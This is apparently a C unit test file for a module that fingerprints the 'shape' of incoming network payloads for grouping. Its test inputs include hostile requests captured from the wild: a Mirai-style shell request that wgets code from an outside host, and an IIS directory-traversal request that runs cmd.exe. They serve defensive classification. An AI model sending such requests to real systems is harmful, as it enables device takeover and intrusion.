/* shape.c - unit tests of the shape fingerprint (src/output/shape.c): the
 * long form of each kind of payload, side by side with its bytes; what
 * must group together (values, random paths, header order for the group
 * part of the id) and what must not; the caps; hostile bytes never shown.
 * Run from unit.c's main through test_shape. */
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "shape.h"

void test_shape(int *passed, int *failed);

static int *sh_passed, *sh_failed;

#define CHECK(cond, ...)                                                   \
	do {                                                               \
		if (cond) {                                                \
			(*sh_passed)++;                                    \
		} else {                                                   \
			(*sh_failed)++;                                    \
			printf("FAIL %s:%d: %s: ", __FILE__, __LINE__, #cond); \
			printf(__VA_ARGS__);                               \
			printf("\n");                                      \
		}                                                          \
	} while (0)

static struct shape shape_str(const char *s, uint64_t nreq)
{
	struct shape sh;

	shape_of((const uint8_t *)s, strlen(s), nreq, &sh);
	return sh;
}

/* Payloads and the long form each must give. */
static void test_shape_text(void)
{
	static const struct {
		const char *payload;
		uint64_t nreq;
		const char *text;
	} cases[] = {
		{"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n", 1,
		    "s1 http GET 1.1 crlf / h:Host:_,User-Agent:_,Accept:_"},
		/* line endings, colon spacing, case kept, a continuation */
		{"GET /a HTTP/1.0\nhost:x\nX-A:\tb\nX-B:  c\n  folded\n\n", 1,
		    "s1 http GET 1.0 lf /a h:host:0,X-A:t,X-B:2,~"},
		{"GET /a HTTP/1.0\r\nHost: x\n\r\n", 1, "s1 http GET 1.0 mixed /a h:Host:_"},
		{"GET /x\r\n\r\n", 1, "s1 http GET 0.9 crlf /x h:-"},
		/* numbers, hex, UUIDs, long segments, escapes kept */
		{"GET /nmaplowercheck1501895896 HTTP/1.1\r\n\r\n", 1,
		    "s1 http GET 1.1 crlf /nmaplowercheck{n} h:-"},
		{"GET /u/4f0c9a1e7b/9b2d6c1e-3f4a-4b5c-8d9e-0123456789ab/HNAP1 HTTP/1.1\r\n\r\n", 1,
		    "s1 http GET 1.1 crlf /u/{h}/{uuid}/HNAP1 h:-"},
		{"GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n", 1,
		    "s1 http GET 1.0 crlf /scripts/..%255c../winnt/system{n}/cmd.exe q:/c+dir h:-"},
		{"GET /abcdefghijklmnopqrstuvwxyzABC/x HTTP/1.1\r\n\r\n", 1,
		    "s1 http GET 1.1 crlf /{long}/x h:-"},
		/* query names only, in order; values never */
		{"GET /s?id=1&Submit=Go&=x&flag HTTP/1.1\r\n\r\n", 1,
		    "s1 http GET 1.1 crlf /s q:id,Submit,-,flag h:-"},
		{"GET /s? HTTP/1.1\r\n\r\n", 1, "s1 http GET 1.1 crlf /s q:- h:-"},
		/* a body, pipelining, an unfinished head, an absolute target */
		{"POST /l HTTP/1.1\r\nContent-Length: 3\r\n\r\na=b", 1,
		    "s1 http POST 1.1 crlf /l b h:Content-Length:_"},
		{"GET / HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n", 2, "s1 http GET 1.1 crlf / x2-9 h:-"},
		{"GET / HTTP/1.1\r\n\r\n", 12, "s1 http GET 1.1 crlf / x10+ h:-"},
		{"GET / HTTP/1.1\r\nHost: x\r\n", 1, "s1 http GET 1.1 crlf / open h:Host:_"},
		{"GET http://example.com:8080/p/1234 HTTP/1.1\r\n\r\n", 1,
		    "s1 http GET 1.1 crlf http://{host}/p/{n} h:-"},
		/* a space inside the target (Mirai's /shell?...) */
		{"GET /shell?cd+/tmp;wget+ http://1.2.3.4/a HTTP/1.1\r\n\r\n", 1,
		    "s1 http GET 1.1 crlf /shell q:{long} h:-"},
		/* other protocols that look like HTTP keep their name */
		{"OPTIONS / RTSP/1.0\r\n\r\n", 1, "s1 http OPTIONS RTSP/1.0 crlf / h:-"},
		{"OPTIONS sip:nm SIP/2.0\r\nVia: x\r\n\r\n", 1, "s1 http OPTIONS SIP/2.0 crlf sip:nm h:Via:_"},
		/* not HTTP: the kind of bytes */
		{"\x16\x03\x01\x00\x2f\x01\x00\x00\x2b\x03\x03", 0, "s1 tls-hello len:8-15"},
		{"SSH-2.0-OpenSSH_9.2p1 Debian\r\n", 0, "s1 ssh 2.0-OpenSSH_9.2p1 crlf"},
		{"SSH-2.0-Go\r\n", 0, "s1 ssh 2.0-Go crlf"},
		{"MGLNDD_203.0.113.7_80\n", 0, "s1 text MGLNDD_{n}.0.{n}.7_{n} lf len:16-31"},
		{"\r\n\r\n", 0, "s1 text - crlf len:4-7"},
		{"\x00\x1e\x00\x06\x01\x00", 0, "s1 bin 00-1e len:4-7"},
		{"x", 0, "s1 text x none len:1"},
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct shape sh;
		size_t len = strlen(cases[i].payload);
		/* the binary cases hold NULs: their lengths are spelt out */
		if (cases[i].payload[0] == '\x16')
			len = 11;
		if (cases[i].payload[0] == '\0')
			len = 6;
		CHECK(shape_of((const uint8_t *)cases[i].payload, len, cases[i].nreq, &sh),
		    "case %zu has a shape", i);
		CHECK(strcmp(sh.text, cases[i].text) == 0, "case %zu: '%s', want '%s'", i,
		    sh.text, cases[i].text);
		CHECK(strlen(sh.id) == SHAPE_ID_LEN - 1 && strncmp(sh.id, "s1:", 3) == 0 &&
		    sh.id[SHAPE_GROUP_LEN] == '.', "case %zu: id '%s'", i, sh.id);
	}
}

/* The id: values and random parts do not change it; header order changes
 * only its order part; anything else changes its group. */
static void test_shape_id(void)
{
	struct shape a = shape_str("GET /p/123 HTTP/1.1\r\nHost: a\r\nUser-Agent: x\r\n\r\n", 1);
	struct shape b = shape_str("GET /p/98765 HTTP/1.1\r\nHost: bbb\r\nUser-Agent: yy\r\n\r\n", 1);
	struct shape c = shape_str("GET /p/123 HTTP/1.1\r\nUser-Agent: x\r\nHost: a\r\n\r\n", 1);
	struct shape d = shape_str("GET /p/123 HTTP/1.1\r\nhost: a\r\nUser-Agent: x\r\n\r\n", 1);
	struct shape e = shape_str("GET /p/123 HTTP/1.0\r\nHost: a\r\nUser-Agent: x\r\n\r\n", 1);
	struct shape none;

	CHECK(strcmp(a.id, b.id) == 0, "values differ only: %s %s", a.id, b.id);
	CHECK(strncmp(a.id, c.id, SHAPE_GROUP_LEN) == 0 && strcmp(a.id, c.id) != 0,
	    "header order: same group, another order: %s %s", a.id, c.id);
	CHECK(strncmp(a.id, d.id, SHAPE_GROUP_LEN) != 0, "a name's case is its own group");
	CHECK(strncmp(a.id, e.id, SHAPE_GROUP_LEN) != 0, "the version is its own group");
	CHECK(!shape_of((const uint8_t *)"", 0, 0, &none) && !none.text[0] && !none.id[0],
	    "no payload, no shape");
	CHECK(!shape_of(NULL, 5, 0, &none), "no bytes, no shape");
}

/* Caps: headers past SHAPE_HEADERS_MAX, query names past SHAPE_QUERY_MAX,
 * a path past SHAPE_PATH_MAX, a head past SHAPE_SCAN_MAX, the whole text
 * under SHAPE_TEXT_MAX; hostile bytes are never shown. */
static void test_shape_caps(void)
{
	size_t cap = 64 * 1024;
	char *p = malloc(cap);
	struct shape sh;
	size_t n = 0;

	if (!p)
		return;
	n += (size_t)snprintf(p + n, cap - n, "GET /");
	for (int i = 0; i < 20; i++)
		n += (size_t)snprintf(p + n, cap - n, "seg%c/", 'a' + i);
	n += (size_t)snprintf(p + n, cap - n, "?");
	for (int i = 0; i < 12; i++)
		n += (size_t)snprintf(p + n, cap - n, "k%c=v&", 'a' + i);
	n += (size_t)snprintf(p + n, cap - n, " HTTP/1.1\r\n");
	for (int i = 0; i < 30; i++)
		n += (size_t)snprintf(p + n, cap - n, "X-Header-Number-%c-With-A-Very-Long-Name-Indeed: v\r\n",
		    'a' + i);
	n += (size_t)snprintf(p + n, cap - n, "\r\n");
	CHECK(shape_of((const uint8_t *)p, n, 1, &sh), "a shape");
	CHECK(strstr(sh.text, ",+6") != NULL, "30 headers list 24, then +6: %s", sh.text);
	CHECK(strstr(sh.text, "{cut}") != NULL, "the path is cut: %s", sh.text);
	CHECK(strstr(sh.text, "q:ka,kb,kc,kd,ke,kf,kg,kh,+4") != NULL, "8 names, then +4: %s",
	    sh.text);
	CHECK(strlen(sh.text) < SHAPE_TEXT_MAX, "bounded");

	/* everything at its cap: the text is cut, and says so */
	n = 0;
	n += (size_t)snprintf(p + n, cap - n, "ABCDEFGHIJKLMNOPQRSTUVWXYZ ");
	for (int i = 0; i < 20; i++)
		n += (size_t)snprintf(p + n, cap - n, "/seg%c", 'a' + i);
	n += (size_t)snprintf(p + n, cap - n, "?");
	for (int i = 0; i < 8; i++)
		n += (size_t)snprintf(p + n, cap - n, "%.23s%c=&", "abcdefghijklmnopqrstuvwx", 'a' + i);
	n += (size_t)snprintf(p + n, cap - n, " HTTP/1.1\r\n");
	for (int i = 0; i < 24; i++)
		n += (size_t)snprintf(p + n, cap - n, "X-%.29s%c:  v\r\n",
		    "ABCDEFGHIJKLMNOPQRSTUVWXYZABC", 'a' + i);
	n += (size_t)snprintf(p + n, cap - n, "\r\n");
	CHECK(shape_of((const uint8_t *)p, n, 1, &sh), "a shape");
	size_t tl = strlen(sh.text);
	CHECK(tl == SHAPE_TEXT_MAX - 1 && strcmp(sh.text + tl - 5, "{cut}") == 0,
	    "cut at the cap, marked: %zu '%s'", tl, sh.text + (tl > 20 ? tl - 20 : 0));

	/* a head longer than the scan: the shape stops there, open */
	memcpy(p, "GET / HTTP/1.1\r\nA: ", 19);
	memset(p + 19, 'x', cap - 19);
	CHECK(shape_of((const uint8_t *)p, cap, 1, &sh) && strstr(sh.text, " open") != NULL,
	    "a head past the scan is open: %s", sh.text);

	/* every byte value in names, paths, queries and words */
	n = 0;
	n += (size_t)snprintf(p + n, cap - n, "GET /\x1b[31m\xff<a>,\"'%%zz?\xc3\xa9=1&<b>,c=2 HTTP/1.1\r\n"
	    "X-\x7f\x80<i>: v\r\n\r\n");
	CHECK(shape_of((const uint8_t *)p, n, 1, &sh), "a shape");
	bool printable = true;
	for (const char *c = sh.text; *c; c++)
		printable = printable && *c >= 0x20 && *c < 0x7f;
	CHECK(printable, "printable ASCII only: %s", sh.text);
	CHECK(strcmp(sh.text, "s1 http GET 1.1 crlf /?[{n}m?<a>,\"'%zz q:?" "?,<b>?c h:X-???i?:_") == 0,
	    "hostile bytes are '?', names keep no comma: %s", sh.text);
	free(p);
}

/* The cache gives what shape_of gives, and computes again for another
 * payload or request count in the same slot. */
static void test_shape_cache(void)
{
	static struct shape_cache cache;
	const char *a = "GET /a HTTP/1.1\r\nHost: x\r\n\r\n";
	const char *b = "HEAD /b HTTP/1.0\r\n\r\n";
	unsigned char da[32] = {7}, db[32] = {7, 1};   /* one slot, two digests */
	struct shape want;
	const struct shape *got;

	shape_of((const uint8_t *)a, strlen(a), 1, &want);
	got = shape_of_cached(&cache, da, (const uint8_t *)a, strlen(a), 1);
	CHECK(got && strcmp(got->id, want.id) == 0, "first lookup computes");
	got = shape_of_cached(&cache, da, (const uint8_t *)b, strlen(b), 1);
	CHECK(got && strcmp(got->id, want.id) == 0, "the same digest is not computed again");
	got = shape_of_cached(&cache, db, (const uint8_t *)b, strlen(b), 1);
	shape_of((const uint8_t *)b, strlen(b), 1, &want);
	CHECK(got && strcmp(got->id, want.id) == 0, "another digest in the slot: %s", got->id);
	got = shape_of_cached(&cache, db, (const uint8_t *)b, strlen(b), 2);
	shape_of((const uint8_t *)b, strlen(b), 2, &want);
	CHECK(got && strcmp(got->text, want.text) == 0, "another request count: %s", got->text);
	CHECK(shape_of_cached(&cache, da, (const uint8_t *)"", 0, 0) == NULL,
	    "no payload, no shape");
}

void test_shape(int *passed, int *failed)
{
	sh_passed = passed;
	sh_failed = failed;
	test_shape_text();
	test_shape_id();
	test_shape_caps();
	test_shape_cache();
}
